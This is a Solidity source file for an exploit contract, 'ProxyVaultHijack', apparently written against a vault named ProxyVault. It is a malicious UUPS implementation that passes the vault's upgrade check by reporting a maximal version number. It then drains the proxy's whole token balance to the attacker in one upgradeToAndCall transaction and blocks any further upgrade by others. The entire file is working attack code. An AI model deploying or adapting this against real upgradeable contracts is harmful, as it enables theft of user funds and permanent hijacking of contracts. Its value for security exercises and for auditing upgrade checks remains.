// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {UUPSUpgradeable} from "@openzeppelin/contracts/proxy/utils/UUPSUpgradeable.sol";

/// @title ProxyVaultHijack
/// @notice The attacker's implementation for ProxyVault: it passes the
///         vault's upgrade check (a valid UUPS implementation reporting a
///         huge version) and, once the proxy delegates to it, hands the
///         proxy's whole token balance to the attacker. The attacker calls
///         `upgradeToAndCall(hijack, drain(token))` on the proxy: one
///         transaction takes control and the funds.
contract ProxyVaultHijack is UUPSUpgradeable {
    using SafeERC20 for IERC20;

    /// @dev Immutable, so it is readable when the proxy delegates here.
    address public immutable attacker;

    error NotAttacker(address caller);

    constructor() {
        attacker = msg.sender;
    }

    function version() external pure returns (uint256) {
        return type(uint256).max;
    }

    /// @notice Sends the proxy's entire balance of token to the attacker.
    function drain(IERC20 token) external {
        if (msg.sender != attacker) revert NotAttacker(msg.sender);
        token.safeTransfer(attacker, token.balanceOf(address(this)));
    }

    /// @dev Nobody else gets to take the proxy back.
    function _authorizeUpgrade(address) internal view override {
        if (msg.sender != attacker) revert NotAttacker(msg.sender);
    }
}
